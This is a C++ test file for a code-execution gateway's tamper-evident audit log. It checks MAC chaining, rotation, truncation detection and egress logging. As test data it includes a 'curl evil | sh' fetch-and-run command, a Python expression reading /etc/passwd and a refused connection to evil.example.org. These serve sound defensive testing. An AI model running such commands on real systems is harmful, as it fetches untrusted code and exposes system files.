#include "gateway/audit/audit_log.hpp"

#include <signal.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <sstream>

#include <doctest/doctest.h>

using namespace callisto::gateway::audit;
using callisto::sha256_hex;
namespace fs = std::filesystem;

namespace {

struct temp_dir {
    static inline int made = 0;
    fs::path path =
        fs::temp_directory_path() /
        ("callisto-audit-test-" + std::to_string(::getpid()) + "-" + std::to_string(++made));
    temp_dir() {
        fs::remove_all(path);
        fs::create_directories(path);
    }
    ~temp_dir() { fs::remove_all(path); }
};

// A log in a temporary directory, its key in a "state" directory beside it, no sync thread.
struct fixture {
    temp_dir dir;
    audit_settings s;
    fixture() {
        s.file = dir.path / "audit.log";
        s.key_file = dir.path / "state" / "audit.key";
        s.sync_interval = std::chrono::milliseconds(0);
    }
    fs::path file(const std::string& name) const { return dir.path / name; }
    chain_key key() const {
        std::string why;
        auto k = read_key_file(s.key_file, why);
        REQUIRE_MESSAGE(k, why);
        return *k;
    }
    std::optional<chain_anchor> anchor() const {
        std::string why;
        auto a = read_anchor_file(audit_log::anchor_file(s.key_file), key(), why);
        REQUIRE_MESSAGE(a, why);
        return a;
    }
    // audit-verify over `files` (names in the directory), with the anchor or without.
    std::string verify(const std::vector<std::string>& names, int expected_exit,
                       bool with_anchor = true) const {
        std::vector<std::string> files;
        for (const auto& n : names) files.push_back(file(n).string());
        std::string report;
        const int exit_code =
            verify_files(key(), with_anchor ? anchor() : std::nullopt, files, report);
        INFO(report);
        CHECK(exit_code == expected_exit);
        return report;
    }
};

bool has(const std::string& text, const std::string& part) {
    return text.find(part) != std::string::npos;
}

execution_start start(std::string_view code, std::string_view id = "e-1") {
    execution_start e;
    e.started = std::chrono::system_clock::time_point{} + std::chrono::hours(490000);
    e.user = "ana";
    e.api = "v1";
    e.kernel_id = "k-1";
    e.context_id = "c-1";
    e.execution_id = id;
    e.code = code;
    return e;
}

execution_end end(std::uint64_t run_seq, std::string status = "ok") {
    execution_end e;
    e.finished = std::chrono::system_clock::time_point{} + std::chrono::hours(490001);
    e.user = "ana";
    e.api = "v1";
    e.execution_id = "e-1";
    e.run_seq = run_seq;
    e.status = std::move(status);
    e.duration = std::chrono::milliseconds(1500);
    e.output_bytes = 42;
    e.files_written = {"out.png"};
    return e;
}

// One execution, recorded before and after; its run line's seq.
std::uint64_t run(audit_log& log, std::string_view code, std::string status = "ok") {
    auto r = log.record_start(start(code));
    REQUIRE(r.error == "");
    REQUIRE(log.record_end(end(r.seq, std::move(status))) == "");
    return r.seq;
}

std::vector<std::string> read_lines(const fs::path& file) {
    std::ifstream in(file);
    std::vector<std::string> lines;
    for (std::string line; std::getline(in, line);) lines.push_back(line);
    return lines;
}

void write_lines(const fs::path& file, const std::vector<std::string>& lines) {
    std::ofstream out(file, std::ios::trunc);
    for (const auto& l : lines) out << l << '\n';
}

std::string slurp(const fs::path& file) {
    std::ifstream in(file, std::ios::binary);
    std::stringstream ss;
    ss << in.rdbuf();
    return ss.str();
}

// For the duration: files of this process cannot grow past `bytes` (EFBIG), as on a full disk.
struct file_size_limit {
    rlimit before{};
    void (*handler)(int);
    explicit file_size_limit(rlim_t bytes) {
        ::getrlimit(RLIMIT_FSIZE, &before);
        handler = ::signal(SIGXFSZ, SIG_IGN);
        rlimit now = before;
        now.rlim_cur = bytes;
        REQUIRE(::setrlimit(RLIMIT_FSIZE, &now) == 0);
    }
    ~file_size_limit() {
        ::setrlimit(RLIMIT_FSIZE, &before);
        ::signal(SIGXFSZ, handler);
    }
};

}  // namespace

TEST_CASE("audit lines chain under a key: each holds the previous line's MAC and its own") {
    const auto key = chain_key::generate();
    auto a = chain_line(key, {{"code", "1+1"}}, 1, genesis_mac);
    auto b = chain_line(key, {{"code", "2+2"}}, 2, a.mac);
    CHECK(has(a.text, "\"prev\":\"" + std::string(genesis_mac) + "\""));
    CHECK(has(b.text, "\"prev\":\"" + a.mac + "\""));
    CHECK(b.text.substr(b.text.size() - 66, 64) == b.mac);
    chain_verifier v(key, chain_anchor{"audit.log", 2, b.mac, 0});
    v.add(a.text, "a");
    v.add(b.text, "b");
    CHECK(v.finish() == verdict::proven);
    CHECK(has(v.report(), "intact: 2 lines, seq 1 to 2"));

    // The key's text reads back as the same key; anything else is not a key.
    auto again = chain_key::from_text(key.text());
    REQUIRE(again);
    CHECK(again->mac_hex("x") == key.mac_hex("x"));
    CHECK_FALSE(chain_key::from_text(""));
    CHECK_FALSE(chain_key::from_text(std::string(63, 'a')));
    CHECK_FALSE(chain_key::from_text(std::string(64, 'g')));
    CHECK_FALSE(chain_key::from_text(std::string(66, 'a')));
}

TEST_CASE("audit verification names an edited line, a deleted line and a line of another key") {
    const auto key = chain_key::generate();
    std::vector<std::string> lines;
    std::string prev(genesis_mac);
    for (int i = 1; i <= 4; ++i) {
        auto l = chain_line(key, {{"code", "x = " + std::to_string(i)}}, i, prev);
        lines.push_back(l.text);
        prev = l.mac;
    }
    auto check_broken = [&](std::vector<std::string> tampered, std::string where, std::string why) {
        chain_verifier v(key, std::nullopt);
        for (std::size_t i = 0; i < tampered.size(); ++i)
            v.add(tampered[i], "line " + std::to_string(i + 1));
        CHECK(v.finish() == verdict::broken);
        INFO(v.report());
        CHECK(has(v.report(), where + ": broken: " + why));
    };
    auto edited = lines;
    edited[1].replace(edited[1].find("x = 2"), 5, "x = 9");
    check_broken(edited, "line 2", "its MAC does not match its text");

    // Re-MAC'd under another key (all anyone without the key can do): every line fails.
    auto forged = lines;
    {
        const auto other = chain_key::generate();
        forged[1] = chain_line(other, {{"code", "x = 9"}}, 2,
                               chain_line(key, {{"code", "x = 1"}}, 1, genesis_mac).mac)
                        .text;
    }
    check_broken(forged, "line 2",
                 "its MAC does not match its text: the line was edited, or written under "
                 "another key");

    auto deleted = lines;
    deleted.erase(deleted.begin() + 1);
    check_broken(deleted, "line 2", "it does not follow the line before it");

    // A line removed right after an edited one still shows, by its seq.
    auto both = edited;
    both.erase(both.begin() + 2);
    check_broken(both, "line 3", "seq 4 where 3 was due (lines are missing)");

    check_broken({lines[0], "{\"code\": \"not chained\"}"}, "line 2", "not an audit line");
    // A line of the old unkeyed chain proves nothing.
    check_broken({"{\"code\":\"x\",\"prev\":\"" + std::string(genesis_mac) +
                  "\",\"seq\":1,\"hash\":\"" + sha256_hex("x") + "\"}"},
                 "line 1", "an unkeyed line");
}

TEST_CASE("an audit anchor reads back, and one edited or of another key is refused") {
    const auto key = chain_key::generate();
    const chain_anchor a{"/var/log/callisto/audit.log", 17, std::string(64, 'a'), 4096};
    std::string why;
    auto back = parse_anchor(key, anchor_text(key, a), why);
    REQUIRE_MESSAGE(back, why);
    CHECK(back->log == a.log);
    CHECK(back->seq == 17);
    CHECK(back->mac == a.mac);
    CHECK(back->offset == 4096);
    std::string edited = anchor_text(key, a);
    edited.replace(edited.find("17"), 2, "99");
    CHECK_FALSE(parse_anchor(key, edited, why));
    CHECK(has(why, "does not match"));
    CHECK_FALSE(parse_anchor(chain_key::generate(), anchor_text(key, a), why));
    // A log line is not an anchor.
    CHECK_FALSE(parse_anchor(key, chain_line(key, {{"code", "x"}}, 1, genesis_mac).text, why));
    CHECK(why == "not an audit anchor");
}

TEST_CASE(
    "audit log: a run line before the code runs, an end line after, the chain going on "
    "after a restart") {
    fixture f;
    std::uint64_t first_run = 0;
    {
        audit_log log(f.s, {});
        first_run = run(log, "print(1)");
        run(log, "1/0", "error");
    }
    {
        audit_log log(f.s, {});  // a new process: the chain goes on from the last line
        run(log, "print(3)");
    }
    CHECK((fs::status(f.s.file).permissions() & fs::perms::others_read) == fs::perms::none);
    CHECK((fs::status(f.s.key_file).permissions() &
           (fs::perms::group_all | fs::perms::others_all)) == fs::perms::none);
    auto lines = read_lines(f.s.file);
    // open, run, end, run, end; open, run, end
    REQUIRE(lines.size() == 8);
    auto open = nlohmann::json::parse(lines[0]);
    CHECK(open["event"] == "open");
    CHECK(open["anchor_state"] == "new");
    CHECK(open["seq"] == 1);
    auto first = nlohmann::json::parse(lines[1]);
    CHECK(first["seq"] == first_run);
    CHECK(first["event"] == "run");
    CHECK(first["user"] == "ana");
    CHECK(first["api"] == "v1");
    CHECK(first["kernel"] == "k-1");
    CHECK(first["context"] == "c-1");
    CHECK(first["execution"] == "e-1");
    CHECK(first["code"] == "print(1)");
    CHECK(first["code_bytes"] == 8);
    CHECK(first["code_sha256"] == sha256_hex("print(1)"));
    CHECK_FALSE(first.contains("status"));  // not known before it runs
    auto ended = nlohmann::json::parse(lines[2]);
    CHECK(ended["event"] == "end");
    CHECK(ended["run_seq"] == first_run);
    CHECK(ended["execution"] == "e-1");
    CHECK(ended["status"] == "ok");
    CHECK(ended["duration_s"] == 1.5);
    CHECK(ended["output_bytes"] == 42);
    CHECK(ended["files_written"] == nlohmann::json::array({"out.png"}));
    CHECK_FALSE(ended.contains("code"));
    auto reopened = nlohmann::json::parse(lines[5]);
    CHECK(reopened["event"] == "open");
    CHECK(reopened["anchor_state"] == "found");
    CHECK(reopened["seq"] == 6);
    CHECK(nlohmann::json::parse(lines[7])["seq"] == 8);
    // The anchor is the last line, and the whole log is proven.
    CHECK(f.anchor()->seq == 8);
    CHECK(has(f.verify({"audit.log"}, 0), "intact: 8 lines, seq 1 to 8"));
}

TEST_CASE("audit log with --audit-code=hash keeps the code's hash and size, not the code") {
    fixture f;
    f.s.record_code = false;
    audit_log log(f.s, {});
    run(log, "secret = 'hunter2'");
    auto line = read_lines(f.s.file).at(1);
    CHECK_FALSE(has(line, "hunter2"));
    auto j = nlohmann::json::parse(line);
    CHECK_FALSE(j.contains("code"));
    CHECK(j["code_sha256"] == sha256_hex("secret = 'hunter2'"));
}

TEST_CASE(
    "code over --audit-code-limit is recorded by its hash and size only, whatever "
    "--audit-code says") {
    fixture f;
    f.s.code_limit = 1024;
    audit_log log(f.s, {});
    const std::string at_limit(1024, 'a');
    const std::string over(16 << 20, 'b');  // the 16 MiB
    run(log, at_limit);
    auto r = log.record_start(start(over));
    REQUIRE(r.error == "");
    const nlohmann::json big_expressions = {{"x", std::string(2000, 'c')}};
    auto e = start("");
    e.user_expressions = &big_expressions;
    REQUIRE(log.record_start(e).error == "");
    auto lines = read_lines(f.s.file);
    REQUIRE(lines.size() == 5);
    CHECK(nlohmann::json::parse(lines[1])["code"] == at_limit);
    CHECK(lines[3].size() < 1024);
    auto big = nlohmann::json::parse(lines[3]);
    CHECK_FALSE(big.contains("code"));
    CHECK(big["code_over_limit"] == true);
    CHECK(big["code_bytes"] == over.size());
    CHECK(big["code_sha256"] == sha256_hex(over));
    auto expr = nlohmann::json::parse(lines[4]);
    CHECK_FALSE(expr.contains("user_expressions"));
    CHECK(expr["user_expressions_over_limit"] == true);
    CHECK(expr["user_expressions_sha256"] == sha256_hex(big_expressions.dump()));
    CHECK(expr["user_expressions_bytes"] == big_expressions.dump().size());
    // What the admin's overview keeps in memory is as small.
    CHECK(log.latest(1)[0].dump().size() < 1024);
}

TEST_CASE("an audit run line names a request other than execute_request, and user_expressions") {
    fixture f;
    {
        audit_log log(f.s, {});
        const nlohmann::json expressions = {{"x", "open('/etc/passwd').read()"}};
        auto e = start("");
        e.user_expressions = &expressions;
        REQUIRE(log.record_start(e).error == "");
        auto d = start("os.getuid()");
        d.request = "debug_request evaluate";
        REQUIRE(log.record_start(d).error == "");
    }
    auto lines = read_lines(f.s.file);
    auto j = nlohmann::json::parse(lines.at(1));
    CHECK(j["user_expressions"]["x"] == "open('/etc/passwd').read()");
    CHECK(j["user_expressions_sha256"] == sha256_hex(j["user_expressions"].dump()));
    CHECK_FALSE(j.contains("request"));  // an execute_request
    auto d = nlohmann::json::parse(lines.at(2));
    CHECK(d["request"] == "debug_request evaluate");
    CHECK(d["code"] == "os.getuid()");
    CHECK_FALSE(d.contains("user_expressions"));

    // --audit-code=hash: the expressions' hash, not the expressions.
    fixture hashed;
    hashed.s.record_code = false;
    audit_log log(hashed.s, {});
    const nlohmann::json secret = {{"x", "hunter2"}};
    auto e = start("");
    e.user_expressions = &secret;
    REQUIRE(log.record_start(e).error == "");
    auto line = read_lines(hashed.s.file).at(1);
    CHECK_FALSE(has(line, "hunter2"));
    CHECK(nlohmann::json::parse(line).contains("user_expressions_sha256"));
}

TEST_CASE("audit log rotates by size, keeps N files, and the chain runs through them") {
    fixture f;
    f.s.rotate_bytes = 2000;  // a run line is ~400 bytes: a few per file
    f.s.keep = 3;
    {
        audit_log log(f.s, {});
        for (int i = 0; i < 30; ++i) run(log, "x = " + std::to_string(i));
    }
    CHECK(fs::exists(f.file("audit.log.3")));
    CHECK_FALSE(fs::exists(f.file("audit.log.4")));
    for (auto name : {"audit.log", "audit.log.1", "audit.log.2", "audit.log.3"}) {
        CHECK(fs::file_size(f.file(name)) <= 2000);
        // Each file begins with a rotation's line: where a chain may begin once older ones go.
        CHECK(nlohmann::json::parse(read_lines(f.file(name)).at(0))["event"] == "rotate");
    }
    const std::vector<std::string> in_order = {"audit.log.3", "audit.log.2", "audit.log.1",
                                               "audit.log"};
    // Authentic and in order, but the lines rotated away are said to be gone.
    auto report = f.verify(in_order, 3);
    CHECK(has(report, "were deleted by rotation (--audit-keep)"));
    CHECK(has(report, "NOT COMPLETE"));
    // Out of order, the seam between two files is found.
    CHECK(has(f.verify({in_order[1], in_order[0]}, 1), "does not follow the line before it"));
    // The last line is the anchor's, whatever the rotations.
    CHECK(nlohmann::json::parse(read_lines(f.s.file).back())["seq"] == f.anchor()->seq);
}

TEST_CASE(
    "audit-verify: lines pushed out of every kept file by rotation are said to be "
    "deleted, and a kept file removed by hand is found") {
    // The issue: with --audit-rotate 4MiB --audit-keep 2, six padded executions pushed a
    // malicious line out of every kept file, and audit-verify said "intact", exit 0.
    fixture f;
    f.s.rotate_bytes = 4096;
    f.s.keep = 2;
    {
        audit_log log(f.s, {});
        run(log, "import os; os.system('curl evil | sh')");
        const std::string padding(3000, '#');
        for (int i = 0; i < 6; ++i) run(log, padding);
    }
    std::string kept;
    for (auto name : {"audit.log.2", "audit.log.1", "audit.log"}) kept += slurp(f.file(name));
    CHECK_FALSE(has(kept, "curl evil"));
    auto report = f.verify({"audit.log.2", "audit.log.1", "audit.log"}, 3);
    CHECK(has(report, "not proven: seq 1 to "));
    CHECK(has(report, "were deleted by rotation (--audit-keep), as the rotation at seq "));
    // The oldest kept file removed by hand: no rotation deleted its lines.
    report = f.verify({"audit.log.1", "audit.log"}, 1);
    CHECK(has(report, "are not in the files given, and no rotation deleted them"));
}

TEST_CASE("audit-verify: lines cut from the end (head -n 3) are found against the anchor") {
    fixture f;
    {
        audit_log log(f.s, {});
        for (int i = 0; i < 3; ++i) run(log, "x = " + std::to_string(i));
    }
    auto lines = read_lines(f.s.file);
    write_lines(f.file("head.log"), {lines[0], lines[1], lines[2]});
    auto report = f.verify({"head.log"}, 1);
    CHECK(has(report,
              "the files end at seq 3, but the gateway had written up to seq 7 (its "
              "anchor): seq 4 to 7 were cut from the end"));
    // Without the anchor, the end is not proven, and it says so.
    report = f.verify({"head.log"}, 3, false);
    CHECK(has(report, "not proven: the end is not proven: no anchor was given"));
}

TEST_CASE("audit-verify: lines removed from the head (tail -n 2) break the chain") {
    fixture f;
    {
        audit_log log(f.s, {});
        for (int i = 0; i < 3; ++i) run(log, "x = " + std::to_string(i));
    }
    auto lines = read_lines(f.s.file);
    write_lines(f.file("tail.log"), {lines[5], lines[6]});
    auto report = f.verify({"tail.log"}, 1);
    CHECK(has(report,
              "tail.log:1: broken: the chain starts here, at seq 6, neither the first "
              "line ever nor the first line of a rotated file"));
    CHECK(f.verify({"tail.log"}, 1, false).find("BROKEN") != std::string::npos);
}

TEST_CASE("audit-verify: an empty file proves nothing") {
    fixture f;
    { audit_log log(f.s, {}); }
    write_lines(f.file("empty.log"), {});
    CHECK(has(f.verify({"empty.log"}, 1), "no audit lines: nothing is proven"));
    CHECK(has(f.verify({"empty.log"}, 1, false), "no audit lines: nothing is proven"));
}

TEST_CASE("audit-verify: an edited line with every unkeyed SHA-256 recomputed fails") {
    // The issue: the chain was plain SHA-256, so an edit with every hash after it recomputed
    // verified. Recomputing is all anyone without the key can do.
    fixture f;
    {
        audit_log log(f.s, {});
        run(log, "print('harmless')");
        run(log, "x = 2");
    }
    auto lines = read_lines(f.s.file);
    std::string prev(genesis_mac);
    std::vector<std::string> forged;
    for (auto line : lines) {
        auto j = nlohmann::json::parse(line);
        j.erase("mac");
        j.erase("prev");
        j.erase("seq");
        if (j.value("code", "") == "print('harmless')") j["code"] = "print('edited')";
        const auto seq = forged.size() + 1;
        // What the old chain did: SHA-256 of the text, each line naming the one before.
        j["seq"] = seq;
        j["prev"] = prev;
        std::string body = j.dump();
        const std::string mac = sha256_hex(body);
        body.pop_back();
        forged.push_back(body + ",\"mac\":\"" + mac + "\"}");
        prev = mac;
    }
    write_lines(f.file("forged.log"), forged);
    auto report = f.verify({"forged.log"}, 1);
    CHECK(has(report, "forged.log:1: broken: its MAC does not match its text"));
    CHECK(has(report, "forged.log:2: broken: its MAC does not match its text"));
}

TEST_CASE(
    "a start that finds its log cut short records it, and refuses under "
    "--audit-required; once allowed to go on, the cut stays on record") {
    fixture f;
    {
        audit_log log(f.s, {});
        for (int i = 0; i < 3; ++i) run(log, "x = " + std::to_string(i));
    }
    auto lines = read_lines(f.s.file);
    REQUIRE(lines.size() == 7);
    write_lines(f.s.file, {lines.begin(), lines.begin() + 4});  // the last three lines cut
    CHECK_THROWS_WITH_AS(audit_log(f.s, {}),
                         doctest::Contains("ends at seq 4, but this gateway had written up to seq "
                                           "7 (its anchor"),
                         std::runtime_error);
    auto after = read_lines(f.s.file);
    REQUIRE(after.size() == 5);  // the finding, on record
    auto cut = nlohmann::json::parse(after[4]);
    CHECK(cut["event"] == "truncated");
    CHECK(cut["found_seq"] == 4);
    CHECK(cut["anchor_seq"] == 7);
    CHECK(cut["seq"] == 8);  // past the anchor's: no seq is used twice
    // A second start refuses as well, without a second line.
    CHECK_THROWS_WITH_AS(audit_log(f.s, {}), doctest::Contains("by an earlier start"),
                         std::runtime_error);
    CHECK(read_lines(f.s.file).size() == 5);
    auto report = f.verify({"audit.log"}, 1);
    CHECK(has(report,
              "audit.log:5: broken: at this start the gateway found its log cut: it "
              "ended at seq 4, but the gateway had written up to seq 7 (its anchor); seq "
              "5 to 7 are gone"));

    // --audit-required=off goes on with the log; audit-verify still reports the cut.
    f.s.required = false;
    {
        audit_log log(f.s, {});
        run(log, "y = 1");
    }
    auto reopened = nlohmann::json::parse(read_lines(f.s.file).at(5));
    CHECK(reopened["event"] == "open");
    CHECK(reopened["anchor_state"] == "cut");
    report = f.verify({"audit.log"}, 1);
    CHECK(has(report, "seq 5 to 7 are gone"));
    f.s.required = true;
    CHECK_NOTHROW(audit_log(f.s, {}));  // the anchor moved on past the recorded cut
}

TEST_CASE("a start that finds the log emptied, or the newest file gone, refuses") {
    fixture f;
    f.s.rotate_bytes = 2000;
    {
        audit_log log(f.s, {});
        for (int i = 0; i < 8; ++i) run(log, "x = " + std::to_string(i));
    }
    REQUIRE(fs::exists(f.file("audit.log.1")));
    fs::remove(f.s.file);  // the newest file: FILE.1's last line is now the log's end
    CHECK_THROWS_WITH_AS(audit_log(f.s, {}), doctest::Contains("lines were cut from its end"),
                         std::runtime_error);
}

TEST_CASE(
    "a start without its anchor says so in the log, and audit-verify says what that "
    "leaves unproven") {
    fixture f;
    { audit_log log(f.s, {}); }
    fs::remove(audit_log::anchor_file(f.s.key_file));
    { audit_log log(f.s, {}); }
    auto lines = read_lines(f.s.file);
    REQUIRE(lines.size() == 2);
    CHECK(nlohmann::json::parse(lines[1])["anchor_state"] == "missing");
    CHECK(has(f.verify({"audit.log"}, 3), "the gateway found no anchor"));
}

TEST_CASE("an anchor behind the log (a crash before the next sync) is no cut") {
    fixture f;
    {
        audit_log log(f.s, {});
        run(log, "x = 1");
    }
    const auto anchor = slurp(audit_log::anchor_file(f.s.key_file));
    {
        audit_log log(f.s, {});
        run(log, "x = 2");
    }
    // As if the machine stopped before the second process's anchor reached the disk.
    std::ofstream(audit_log::anchor_file(f.s.key_file), std::ios::trunc) << anchor;
    CHECK_NOTHROW(audit_log(f.s, {}));
}

TEST_CASE(
    "audit log refuses a key others can read, an edited anchor, a torn or foreign last "
    "line, and another key's log") {
    fixture f;
    {
        audit_log log(f.s, {});
        run(log, "a");
    }
    fs::permissions(f.s.key_file, fs::perms::group_read, fs::perm_options::add);
    CHECK_THROWS_WITH_AS(audit_log(f.s, {}), doctest::Contains("can be read or written by others"),
                         std::runtime_error);
    fs::permissions(f.s.key_file, fs::perms::group_read, fs::perm_options::remove);

    const auto anchor_path = audit_log::anchor_file(f.s.key_file);
    const auto anchor = slurp(anchor_path);
    std::string edited = anchor;
    edited.replace(edited.find("\"seq\":"), 7, "\"seq\":9");
    std::ofstream(anchor_path, std::ios::trunc) << edited;
    CHECK_THROWS_WITH_AS(audit_log(f.s, {}), doctest::Contains("the audit anchor is not valid"),
                         std::runtime_error);
    std::ofstream(anchor_path, std::ios::trunc) << anchor;

    { std::ofstream(f.s.file, std::ios::app) << "{\"half a li"; }
    CHECK_THROWS_WITH_AS(audit_log(f.s, {}),
                         doctest::Contains("does not end with a line of this key's chain"),
                         std::runtime_error);
    CHECK(has(f.verify({"audit.log"}, 1), "incomplete"));

    // Another key (a new state directory) cannot continue this log.
    fixture other;
    auto lines = read_lines(f.s.file);
    lines.pop_back();
    write_lines(other.s.file, lines);
    CHECK_THROWS_WITH_AS(audit_log(other.s, {}), doctest::Contains("written under another key"),
                         std::runtime_error);

    f.s.file = f.dir.path / "no-such-dir" / "audit.log";
    CHECK_THROWS_AS(audit_log(f.s, {}), std::runtime_error);
}

TEST_CASE("audit log on a full disk refuses every execution it cannot record") {
    fixture f;
    // /dev/full accepts open() and answers every write with ENOSPC.
    f.s.file = "/dev/full";
    audit_log log(f.s, {});
    for (int i = 0; i < 2; ++i) {
        auto r = log.record_start(start("print(1)"));
        CHECK(r.seq == 0);
        CHECK(has(r.error, "No space left on device"));
    }
}

TEST_CASE(
    "a write that fails refuses that execution only: the next one tries again, and a "
    "torn line is taken back") {
    // The issue: after one failed write every execution of every user was refused, still 25 s
    // after space came back, because only a successful write cleared the error.
    fixture f;
    audit_log log(f.s, {});
    const auto first = run(log, "print(1)");
    const auto size = fs::file_size(f.s.file);
    const std::string big(1000, 'x');
    {
        file_size_limit full(size + 100);  // room for a part of the next line only
        auto r = log.record_start(start(big));
        CHECK(r.seq == 0);
        CHECK(has(r.error, "the audit log cannot be written"));
        CHECK(fs::file_size(f.s.file) == size);  // the torn part taken back
        CHECK(has(log.record_start(start(big)).error, "cannot be written"));
    }
    // Space is back: the next execution is recorded, no lock-out.
    auto r = log.record_start(start("print(2)"));
    CHECK(r.error == "");
    CHECK(r.seq == first + 2);
    log.sync();
    CHECK(has(f.verify({"audit.log"}, 0), "intact: 4 lines"));
}

TEST_CASE("audit log keeps its latest executions in memory, newest first, with how they ended") {
    fixture f;
    audit_log log(f.s, {});
    CHECK(log.latest(10).empty());
    run(log, "print(1)");
    // 499 ASCII bytes, then a 2-byte character across the 500th byte: cut before it.
    const std::string long_code = std::string(499, 'x') + "é" + std::string(100, 'y');
    auto r = log.record_start(start(long_code));
    REQUIRE(r.error == "");
    auto latest = log.latest(10);
    REQUIRE(latest.size() == 2);
    CHECK(latest[0]["seq"] == r.seq);
    CHECK(latest[0]["status"] == "running");
    CHECK(latest[0]["code"] == std::string(499, 'x') + "…");
    CHECK(latest[0]["code_bytes"] == long_code.size());
    CHECK(latest[1]["code"] == "print(1)");
    CHECK(latest[1]["status"] == "ok");
    CHECK(latest[1]["duration_s"] == 1.5);
    REQUIRE(log.record_end(end(r.seq, "error")) == "");
    CHECK(log.latest(1)[0]["status"] == "error");
    CHECK(log.latest(1).size() == 1);
    for (int i = 0; i < 150; ++i) run(log, "x");
    CHECK(log.latest(1000).size() == 100);  // bounded
}

TEST_CASE("audit-verify reads the anchor and key files, and refuses ones that are not") {
    fixture f;
    { audit_log log(f.s, {}); }
    std::string why;
    CHECK(read_key_file(f.s.key_file, why));
    CHECK_FALSE(read_key_file(f.file("nope.key"), why));
    CHECK(has(why, "cannot read"));
    write_lines(f.file("bad.key"), {"not a key"});
    CHECK_FALSE(read_key_file(f.file("bad.key"), why));
    CHECK(has(why, "is not an audit key"));
    CHECK_FALSE(read_anchor_file(f.s.file, f.key(), why));  // a log line is not an anchor
    CHECK(audit_log::anchor_file("/x/audit.key") == "/x/audit.anchor");
    CHECK(audit_log::anchor_file("/x/k") == "/x/k.anchor");
}

TEST_CASE("an egress line records kernel, user, host, port, decision, rule, bytes and duration") {
    fixture f;
    audit_log log(f.s, {});
    egress_attempt a;
    a.finished = std::chrono::system_clock::time_point{} + std::chrono::hours(490000);
    a.user = "ana";
    a.kernel_id = "k-1";
    a.method = "CONNECT";
    a.host = "evil.example.org";
    a.port = 443;
    a.rule = "not in the allowlist";
    a.reason = "evil.example.org is not in the allowlist";
    a.status = 403;
    a.duration = std::chrono::milliseconds(3);
    REQUIRE(log.record_egress(a) == "");
    a.allowed = true;
    a.host = "pypi.org";
    a.address = "151.101.0.223";
    a.rule = "pypi.org";
    a.status = 200;
    a.bytes_up = 517;
    a.bytes_down = 4096;
    REQUIRE(log.record_egress(a) == "");
    const auto lines = read_lines(f.s.file);
    REQUIRE(lines.size() == 3);  // the open line first
    auto refused = nlohmann::json::parse(lines[1]);
    CHECK(refused["event"] == "egress");
    CHECK(refused["decision"] == "refused");
    CHECK(refused["user"] == "ana");
    CHECK(refused["kernel"] == "k-1");
    CHECK(refused["host"] == "evil.example.org");
    CHECK(refused["port"] == 443);
    CHECK(refused["rule"] == "not in the allowlist");
    CHECK(refused["status"] == 403);
    CHECK(refused["duration_s"] == 0.003);
    auto allowed = nlohmann::json::parse(lines[2]);
    CHECK(allowed["decision"] == "allowed");
    CHECK(allowed["address"] == "151.101.0.223");
    CHECK(allowed["bytes_up"] == 517);
    CHECK(allowed["bytes_down"] == 4096);
    // Still one chain: audit-verify proves it.
    log.sync();
    f.verify({"audit.log"}, 0);
}

TEST_CASE(
    "a context line records a pause or resume: operation, user, context and its details, "
    "which never replace those") {
    fixture f;
    audit_log log(f.s, {});
    context_operation op;
    op.time = std::chrono::system_clock::time_point{} + std::chrono::hours(490000);
    op.operation = "pause";
    op.user = "ana";
    op.context_id = "c-1";
    op.details = {{"snapshot_id", "s-1"},
                  {"size", 4096},
                  {"duration_ms", 120},
                  {"user", "mallory"},  // a detail may not pass for the line's own field
                  {"event", "run"}};
    REQUIRE(log.record_operation(op) == "");
    op.operation = "resume";
    op.user = "";  // the server's own (--pause-idle pauses; a resume names its owner)
    op.details = {{"duration_ms", 900}};
    REQUIRE(log.record_operation(op) == "");
    const auto lines = read_lines(f.s.file);
    REQUIRE(lines.size() == 3);
    auto paused = nlohmann::json::parse(lines[1]);
    CHECK(paused["event"] == "context");
    CHECK(paused["operation"] == "pause");
    CHECK(paused["user"] == "ana");
    CHECK(paused["context"] == "c-1");
    CHECK(paused["snapshot_id"] == "s-1");
    CHECK(paused["size"] == 4096);
    CHECK(paused["duration_ms"] == 120);
    auto resumed = nlohmann::json::parse(lines[2]);
    CHECK(resumed["operation"] == "resume");
    CHECK(resumed["user"] == "");
    CHECK(resumed["duration_ms"] == 900);
    log.sync();
    f.verify({"audit.log"}, 0);
}
